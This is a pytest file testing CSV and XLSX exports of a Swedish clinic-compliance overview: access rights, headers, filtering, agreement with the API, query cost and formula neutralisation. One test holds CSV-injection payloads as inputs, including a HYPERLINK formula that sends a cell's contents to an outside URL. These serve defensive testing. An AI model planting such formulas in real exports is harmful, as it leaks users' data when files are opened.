"""The overview's downloads: exactly the filtered view, every page, as CSV for Swedish Excel
and as XLSX, with formulas neutralised, and the same numbers as the API."""

import csv
import io
from datetime import datetime

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl.utils.escape import unescape

from clinics.models import Report, ReportState, Role
from followup.exports import neutralise
from followup.exports import overview_header as header
from requirements.models import Area
from tests.api.helpers import bulk_approved_reports, client_for
from tests.factories import make_clinic, make_provider, make_user
from tests.followup.test_overview_page import OVERVIEW, bulk_clinics, signed_in

CSV = reverse("overview_export_csv")
XLSX = reverse("overview_export_xlsx")
API_LIST = reverse("api:clinic-list")

HEADER_EN = [
    "HSA-id",
    "Clinic",
    "Care provider",
    "Organisation number",
    "Municipality code",
    "Municipality",
    "Type of clinic",
    "Contract form",
    "Approved report in force, approved on",
    "Reporting under way",
    "Meets the whole baseline",
    "Meets the general requirements",
    "Share of requirements met",
    "Requirements met",
    "Requirements that apply",
]
MEETS = HEADER_EN.index("Meets the whole baseline")
MEETS_GENERAL = HEADER_EN.index("Meets the general requirements")
SHARE = HEADER_EN.index("Share of requirements met")


def body(response) -> bytes:
    """The whole file, whether it was streamed or not."""
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    text = body(response).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def xlsx_rows(response) -> list[list]:
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(body(response)), read_only=True)
    return [list(row) for row in workbook.worksheets[0].iter_rows(values_only=True)]


def as_csv_text(column: int, value) -> str:
    """An XLSX value as the Swedish CSV writes it."""
    if value is None:
        return ""
    if column == SHARE:
        return f"{value:.4f}".replace(".", ",")
    if isinstance(value, datetime):  # a date cell
        return value.date().isoformat()
    return str(value)


# Who may download


@pytest.mark.parametrize("role", [Role.REGION_ADMIN, Role.REVIEWER, Role.VIEWER])
@pytest.mark.parametrize("url", [CSV, XLSX])
def test_admins_reviewers_and_viewers_may_download(client, role, url, catalogue, clinic):
    response = signed_in(client, role).get(url)

    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment; filename=")


@pytest.mark.parametrize("url", [CSV, XLSX])
def test_a_clinic_reporter_may_not_download_even_their_own_clinic(client, reporter, url):
    client.force_login(reporter)

    assert client.get(url).status_code == 403
    assert client.get(url, {"q": reporter.clinics.get().hsa_id}).status_code == 403


@pytest.mark.parametrize("url", [CSV, XLSX])
def test_anonymous_is_sent_to_sign_in(client, url, db):
    response = client.get(url)

    assert response.status_code == 302
    assert response.url.startswith(reverse("login"))


@pytest.mark.parametrize("url", [CSV, XLSX])
def test_a_bad_filter_gives_no_file(client, url, region):
    response = signed_in(client).get(url, {"municipality": "9999"})

    assert response.status_code == 400
    assert "Content-Disposition" not in response
    assert region.meeting.hsa_id not in response.content.decode()


# CSV


def test_the_csv_is_utf8_with_bom_and_semicolons_for_swedish_excel(client, region):
    response = signed_in(client).get(CSV)

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    content = body(response)
    assert content.startswith(b"\xef\xbb\xbf")
    lines = content.decode("utf-8-sig").split("\r\n")
    assert lines[0].startswith("HSA-id;")
    assert lines[0].count(";") == len(HEADER_EN) + 7 - 1
    assert len([line for line in lines if line]) == 7


def test_the_csv_header_is_in_the_active_language(client, region, catalogue):
    client = signed_in(client)
    areas = Area.objects.filter(version=catalogue, in_baseline=True).order_by("position")

    swedish = csv_rows(client.get(CSV))[0]
    english = csv_rows(client.get(CSV, HTTP_ACCEPT_LANGUAGE="en"))[0]

    assert english == HEADER_EN + [area.name_en for area in areas]
    with translation.override("sv"):
        assert swedish == header([]) + [area.name_sv for area in areas]


def test_the_csv_has_one_row_per_clinic_with_its_facts_and_status(client, region):
    rows = csv_rows(signed_in(client).get(CSV))

    by_hsa_id = {row[0]: row for row in rows[1:]}
    assert len(by_hsa_id) == 6
    hemsida, webbtidbok = len(HEADER_EN), len(HEADER_EN) + 2
    meeting = by_hsa_id[region.meeting.hsa_id]
    assert meeting[: SHARE + 1] == [
        region.meeting.hsa_id,
        "Vårdcentralen Andersberg",
        "Region Halland",
        "232100-0115",
        "1380",
        "Halmstad",
        "Vårdcentral",
        "Regiondriven",
        timezone.localdate(
            Report.objects.get(clinic=region.meeting, state=ReportState.APPROVED).decided_at
        ).isoformat(),
        "Inget pågår",
        "Ja",
        # Its report answers the baseline only: the general requirements are not reported.
        "Nej",
        "1,0000",
    ]
    assert meeting[SHARE + 1] == meeting[SHARE + 2]
    assert meeting[hemsida] == "Uppfyllt"
    failing = by_hsa_id[region.failing.hsa_id]
    assert failing[MEETS] == "Nej"
    assert failing[hemsida] == "Ej uppfyllt"
    assert int(failing[SHARE + 1]) == int(failing[SHARE + 2]) - 1
    silent = by_hsa_id[region.silent.hsa_id]
    assert (silent[MEETS], silent[SHARE]) == ("Nej", "0,0000")
    assert silent[hemsida] == "Ej rapporterat"
    submitted = by_hsa_id[region.submitted.hsa_id]
    assert submitted[8:10] == ["", "Inskickad"]
    assert submitted[webbtidbok] == "Ej tillämpligt"


def test_the_csv_names_a_clinic_without_reports_in_english_too(client, region):
    rows = csv_rows(signed_in(client).get(CSV, HTTP_ACCEPT_LANGUAGE="en"))

    silent = next(row for row in rows if row[0] == region.silent.hsa_id)
    assert silent[8:13] == ["", "Nothing under way", "No", "No", "0.0000"]


def test_the_csv_is_exactly_the_filtered_and_sorted_view_over_every_page(client, catalogue):
    clinics = bulk_clinics(130)
    bulk_approved_reports(clinics[:40], catalogue, failing={c.pk for c in clinics[:40:3]})
    client = signed_in(client)
    query = {"meets_baseline": "false", "sort": "-share", "page": "2"}

    page = client.get(OVERVIEW, query)
    rows = csv_rows(client.get(CSV, query))

    by_id = {clinic.pk: clinic.hsa_id for clinic in clinics}
    view = [
        by_id[pk] for pk in page.context["overview"].clinics.values_list("clinic_id", flat=True)
    ]
    assert len(view) > 50  # more than one page
    assert [row[0] for row in rows[1:]] == view


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("https://example.com/?leak="&A1;"Klicka")',
        "+46 35 13 10 00",
        "-2+3",
        "@SUM(A1:A2)",
        "\tVårdcentralen",
        "\rVårdcentralen",
    ],
)
def test_cells_a_spreadsheet_would_read_as_formulas_are_neutralised(client, catalogue, name):
    provider = make_provider(name="=1+1")
    make_clinic(name=name, provider=provider)
    client = signed_in(client)

    csv_row = csv_rows(client.get(CSV))[1]
    xlsx_row = xlsx_rows(client.get(XLSX))[1]

    assert csv_row[1] == "'" + name
    assert csv_row[2] == "'=1+1"
    # The workbook types them as text, which no spreadsheet evaluates: they stay as given.
    assert unescape(xlsx_row[1]) == name
    assert xlsx_row[2] == "=1+1"


def test_neutralise_leaves_ordinary_text_alone():
    assert neutralise("Vårdcentralen Halmstad") == "Vårdcentralen Halmstad"
    assert neutralise("SE2321000115-O39423") == "SE2321000115-O39423"
    assert neutralise("1177 e-tjänster") == "1177 e-tjänster"
    assert neutralise("=A1") == "'=A1"


def test_the_xlsx_stores_a_formula_like_name_as_text(client, catalogue):
    make_clinic(name='=HYPERLINK("https://example.com";"x")')

    response = signed_in(client).get(XLSX)

    workbook = openpyxl.load_workbook(io.BytesIO(body(response)))
    cell = workbook.worksheets[0]["B2"]
    assert cell.data_type == "s"
    assert cell.value == '=HYPERLINK("https://example.com";"x")'


# XLSX


def test_the_xlsx_opens_and_has_the_same_rows_as_the_csv(client, region):
    client = signed_in(client)

    response = client.get(XLSX, {"sort": "provider"})
    rows = xlsx_rows(response)

    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response["Content-Disposition"].endswith('.xlsx"')
    assert rows[0][0] == "HSA-id"
    assert [
        [as_csv_text(column, value) for column, value in enumerate(row)] for row in rows[1:]
    ] == csv_rows(client.get(CSV, {"sort": "provider"}))[1:]
    assert len(rows) == 7


# The API's numbers


def _api_rows(user, query: dict) -> list[tuple[str, bool, float | None]]:
    api = client_for(user)
    url, params, rows = API_LIST, {**query, "page_size": 500}, []
    while url:
        body = api.get(url, params).json()
        rows += [
            (row["hsa_id"], row["compliance"]["meets_baseline"], row["compliance"]["share"])
            for row in body["results"]
        ]
        url, params = body["next"], None
    return rows


def _csv_numbers(client, query: dict) -> list[tuple[str, bool, float | None]]:
    rows = csv_rows(client.get(CSV, query))
    return [
        (
            row[0],
            {"Ja": True, "Nej": False}[row[MEETS]],
            float(row[SHARE].replace(",", ".")) if row[SHARE] else None,
        )
        for row in rows[1:]
    ]


API_CASES = [
    {"municipality": "1380", "meets_baseline": "true"},
    {"municipality": "1380", "meets_baseline": "false"},
    {"kind": "vardcentral", "q": "Mottagning 001", "contract_form": "vardval"},
    {},
]


def test_the_csv_has_the_apis_numbers_for_the_same_filter(client, catalogue):
    clinics = bulk_clinics(620)
    bulk_approved_reports(clinics[:400], catalogue, failing={c.pk for c in clinics[:400:4]})
    viewer = make_user(Role.VIEWER)
    client.force_login(viewer)

    for query in API_CASES:
        api = _api_rows(viewer, query)
        exported = _csv_numbers(client, query)

        assert len(api) > 0, query
        assert [(hsa_id, meets) for hsa_id, meets, _share in exported] == [
            (hsa_id, meets) for hsa_id, meets, _share in api
        ], query
        assert [share for _id, _meets, share in exported] == [
            None if share is None else round(share, 4) for _id, _meets, share in api
        ], query


# Cost


@pytest.mark.parametrize("url", [CSV, XLSX])
def test_a_download_costs_the_same_queries_for_10_and_1000_clinics(client, catalogue, url):
    client = signed_in(client)
    first = bulk_clinics(10)
    bulk_approved_reports(first[:5], catalogue, failing={first[0].pk})
    query = {"meets_baseline": "false", "sort": "-share"}

    with CaptureQueriesContext(connection) as few:
        assert client.get(url, query).status_code == 200
    more = bulk_clinics(990, start=10)
    bulk_approved_reports(more[:50], catalogue, failing={more[0].pk})
    with CaptureQueriesContext(connection) as many:
        response = client.get(url, query)

    assert response.status_code == 200
    assert len(few) == len(many)
    assert len(many) <= 20


def test_the_xlsx_is_ready_to_read_and_says_what_it_holds(client, region):
    response = signed_in(client).get(XLSX, {"municipality": "1380"})
    workbook = openpyxl.load_workbook(io.BytesIO(body(response)))

    overview, about = workbook.worksheets
    assert overview.auto_filter.ref == f"A1:{overview.cell(1, overview.max_column).column_letter}3"
    assert overview.column_dimensions["B"].width >= len("Vårdcentralen Brunnsgatan")
    share = overview.cell(2, SHARE + 1)
    assert (share.value, share.number_format) == (1, "0.0%")
    approved_on = overview.cell(2, 9)
    assert approved_on.is_date
    assert approved_on.number_format == "yyyy-mm-dd"
    facts = {row[0].value: row[1].value for row in about.iter_rows()}
    assert facts["Status per datum"] == timezone.localdate().isoformat()
    assert facts["Urval"] == "Kommun: Halmstad"
    assert facts["Katalogversion"].startswith("RS220477")
